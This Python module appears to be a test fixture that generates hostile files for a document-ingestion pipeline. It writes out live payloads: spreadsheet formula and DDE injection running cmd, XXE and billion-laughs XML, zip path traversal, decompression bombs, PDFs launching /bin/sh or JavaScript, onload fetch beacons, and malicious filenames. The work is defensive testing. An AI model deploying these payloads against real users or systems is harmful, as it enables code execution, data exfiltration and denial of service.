"""Files that were made to do harm, any number of them from one seed; each speaks of an address that counts who comes.

Pictures, PDFs, archives, SVG and HTML that pass for something else, formulas, workbooks and documents with macros and
outside parts, and names no disk should see. All are made here, of nothing; none does anything outside this machine.
"""

from __future__ import annotations

import functools
import io
import random
import struct
import zipfile
import zlib
from typing import TYPE_CHECKING, NamedTuple

import pikepdf

from adapters.documents.hostile import word_file
from adapters.scan import hostile

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator, Sequence


class HostileFile(NamedTuple):
    """One file: of which family it is, under which name it comes, and its bytes."""

    family: str
    name: str
    data: bytes


NAMES = (
    "scan.jpg",
    "a\r\nSet-Cookie: x=1.jpg",
    "\u202egpj.exe",
    "../../../../etc/passwd",
    "scan.jpg\x00.html",
    "CON",
    "\x1b[2Jscan.pdf",
    "<script>alert(1)<\u2044script>.svg",
    "=HYPERLINK(1).csv",
    "x" * 4000 + ".png",
)
FORMULAS = (
    '=HYPERLINK("{url}","Darius")',
    '=WEBSERVICE("{url}")',
    "=cmd|' /C calc'!A0",
    '+IMPORTXML("{url}";"//a")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '\t=IMAGE("{url}")',
    '\r=DDE("server";"{url}")',
)
LAUGHS = "<!DOCTYPE x [<!ENTITY a0 'ha'>{}]>".format(
    "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 11))
)


def hostile_files(count: int, seed: int, url: str) -> Iterator[HostileFile]:
    """Give so many files, each family in turn; the same seed and address give the same bytes."""
    draw = random.Random(seed)
    families: Sequence[tuple[str, Callable[[random.Random, str], bytes]]] = tuple(FAMILIES.items())
    seen = set[bytes]()
    for number in range(count):
        family, make = families[number % len(families)]
        data = make(draw, url)
        while data in seen:
            data += draw.randbytes(1)
        seen.add(data)
        yield HostileFile(family, draw.choice(NAMES), data)


def _changed(data: bytes, draw: random.Random) -> bytes:
    """Change some bytes behind the first, or cut the file, or add to it."""
    whole = bytearray(data)
    for _ in range(draw.randrange(1, 40)):
        whole[draw.randrange(12, len(whole))] = draw.randrange(256)
    if draw.random() < 0.2:
        del whole[draw.randrange(12, len(whole)) :]
    return bytes(whole)


def _picture(draw: random.Random, url: str) -> bytes:
    kind = draw.choice(["JPEG", "PNG", "WEBP", "TIFF", "HEIC"])
    whole = hostile.HEIC.read_bytes() if kind == "HEIC" else hostile.picture(kind, (draw.randrange(40, 900), 480))
    return _changed(whole + f"<script src='{url}'></script>".encode(), draw)


def _bomb(draw: random.Random, _url: str) -> bytes:
    wide = draw.choice([6_000, 20_000, 60_000, 2**31 - 1])
    made = {
        "png": lambda: hostile.png((wide, wide), rows=bytes(2_000_000)),
        "text": lambda: hostile.png((8, 8), rows=bytes(80), before=((b"zTXt", b"a\0\0" + _squeezed(300_000_000)),)),
        "jpeg": lambda: hostile._lying_jpeg((draw.randrange(9_000, 65_000), draw.randrange(9_000, 65_000))),
        "pdf": lambda: hostile.pdf_with_an_image((30_000, draw.randrange(1_000, 20_000)), _squeezed(300_000_000)),
        "pages": lambda: hostile.pdf(draw.randrange(101, 400)),
    }
    return made[draw.choice(sorted(made))]()


@functools.cache
def _squeezed(size: int) -> bytes:
    """So many zeros, squeezed a little at a time."""
    pressed = zlib.compressobj(9)
    pieces = [pressed.compress(bytes(10_000_000)) for _ in range(size // 10_000_000)]
    return b"".join([*pieces, pressed.flush()])


def _pdf(draw: random.Random, url: str) -> bytes:
    """A PDF that wants to run, open, call or unpack something."""
    made, out = pikepdf.open(io.BytesIO(hostile.pdf(draw.randrange(1, 4)))), io.BytesIO()
    action = draw.choice(
        [
            pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=f"app.launchURL('{url}')"),
            pikepdf.Dictionary(S=pikepdf.Name.URI, URI=url),
            pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("/bin/sh")),
            pikepdf.Dictionary(S=pikepdf.Name.GoToR, F=pikepdf.String(url), D=[0]),
            pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=url),
        ]
    )
    made.Root.OpenAction = made.make_indirect(action)
    made.attachments["run.html"] = f"<script>location='{url}'</script>".encode()
    if draw.random() < 0.3:  # a page that is its own grandmother
        made.Root.Pages.Kids.append(made.Root.Pages)
    made.save(out)
    return out.getvalue() if draw.random() < 0.5 else _changed(out.getvalue(), draw)


def _archive(draw: random.Random, _url: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("../" * draw.randrange(1, 9) + "etc/passwd", "root::0:0")
        inside = bytes(draw.choice([1_000_000, 20_000_000]))
        for number in range(draw.randrange(1, 5)):
            name = draw.choice(["xl/workbook.xml", "word/document.xml", "inner.zip"])
            packed.writestr(f"{name}{number}", inside)
    data = out.getvalue()
    return b"\x1f\x8b\x08\0\0\0\0\0\0\x03" + data if draw.random() < 0.2 else data


def _pretender(draw: random.Random, url: str) -> bytes:
    """A page, a drawing or a program that also begins as something harmless."""
    active = draw.choice(
        [
            f"<html><body onload=\"fetch('{url}')\"><img src='{url}'></body></html>",
            f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"fetch('{url}')\"><image href='{url}'/></svg>",
            f"<?xml version='1.0'?><!DOCTYPE r [<!ENTITY x SYSTEM '{url}'>]><r>&x;</r>",
            f"<?xml version='1.0'?><!DOCTYPE r SYSTEM '{url}'><r/>",
            f"<?xml version='1.0'?>{LAUGHS}<pfif:pfif xmlns:pfif='http://zesty.ca/pfif/1.4'>&a9;</pfif:pfif>",
            f"<script>new Image().src='{url}'</script>",
        ]
    ).encode()
    begins = draw.choice(
        [b"", b"\xef\xbb\xbf", b"GIF89a/*", b"\xff\xd8\xff\xfe" + struct.pack(">H", len(active) + 2), b"%PDF-1.4\n"]
    )
    return begins + active + (hostile.picture("JPEG")[2:] if begins.startswith(b"\xff\xd8") else b"*/=1")


def _formulas(draw: random.Random, url: str) -> bytes:
    """A list whose cells are formulas, in an encoding and with a separator that are drawn."""
    cells = [draw.choice(FORMULAS).format(url=url) for _ in range(draw.randrange(3, 60))]
    separator = draw.choice(",;\t|")
    lines = [separator.join(["id", "name", "note"])]
    for number, cell in enumerate(cells):
        name = '"{}"'.format(cell.replace('"', '""'))
        lines.append(separator.join([str(number), name, "\x00" if draw.random() < 0.1 else name]))
    return "\r\n".join(lines).encode(draw.choice(["utf-8", "utf-16", "cp1256", "utf-8-sig"]), "replace")


def _workbook(draw: random.Random, url: str) -> bytes:
    """A workbook with formulas, an outside link, a macro, a bomb of words or a sheet without end."""
    before, rows = draw.choice(
        [
            ("", f'<row r="1"><c r="A1"><f>WEBSERVICE("{url}")</f><v>1</v></c></row>'),
            (LAUGHS, "<row><c t='inlineStr'><is><t>&a9;</t></is></c></row>"),
            ("", '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'),
            (f"<!DOCTYPE x [<!ENTITY e SYSTEM '{url}'>]>", "<row><c><v>&e;</v></c></row>"),
        ]
    )
    inside = f'<dimension ref="A1:XFD1048576"/><sheetData>{rows}</sheetData>'
    link = f'<Relationship Id="r9" TargetMode="External" Target="{url}" Type="{_LINKS}/externalLinkPath"/>'
    parts = {
        "xl/worksheets/sheet1.xml": f'{before}<worksheet xmlns="{_SHEETS}">{inside}</worksheet>',
        "xl/externalLinks/_rels/externalLink1.xml.rels": f'<Relationships xmlns="{_PACKAGE}">{link}</Relationships>',
        "xl/vbaProject.bin": "\xd0\xcf\x11\xe0" + "x" * 5000,
    }
    return _with_parts(_smallest_workbook(), parts)


_SHEETS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def _smallest_workbook() -> bytes:
    from khabar.adapters.tables import process  # noqa: PLC0415 - it loads what a bounded process does

    return process._smallest()


def _document(draw: random.Random, url: str) -> bytes:
    """A Word file with a macro, a template from outside, a page of HTML inside, or words that unfold."""
    body = draw.choice(
        [
            f'<w:altChunk r:id="r8"/><w:p><w:r><w:t>{url}</w:t></w:r></w:p>',
            "<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe</w:instrText></w:r></w:p>",
            "<w:tbl><w:tr><w:tc>" * 300 + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * 300,
            "<w:p><w:r><w:t>&a9;</w:t></w:r></w:p>",
        ]
    )
    names = f'xmlns:w="{_WORDS}" xmlns:r="{_LINKS}"'
    before = LAUGHS if "&a9;" in body else ""
    words = f"{before}<w:document {names}><w:body>{body}</w:body></w:document>"
    outside = f'<Relationship Id="r7" TargetMode="External" Target="{url}" Type="{_LINKS}/attachedTemplate"/>'
    parts = {
        "word/document.xml": words,
        "word/vbaProject.bin": "\xd0\xcf\x11\xe0" + "x" * 5000,
        "word/_rels/settings.xml.rels": f'<Relationships xmlns="{_PACKAGE}">{outside}</Relationships>',
        "word/a.html": f"<script>fetch('{url}')</script>",
    }
    whole = _with_parts(word_file("A letter"), parts)
    return whole if draw.random() < 0.6 else _changed(whole, draw)


_WORDS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_LINKS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"


def _with_parts(packed: bytes, parts: dict[str, str]) -> bytes:
    """Give an archive with these parts in place of those of their names."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(packed)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for one in old.namelist():
            if one not in parts:
                new.writestr(one, old.read(one))
        for name, text in parts.items():
            new.writestr(name, text.encode("utf-8"))
    return out.getvalue()


FAMILIES: dict[str, Callable[[random.Random, str], bytes]] = {
    "picture": _picture,
    "bomb": _bomb,
    "PDF": _pdf,
    "archive": _archive,
    "pretender": _pretender,
    "formulas": _formulas,
    "workbook": _workbook,
    "document": _document,
}
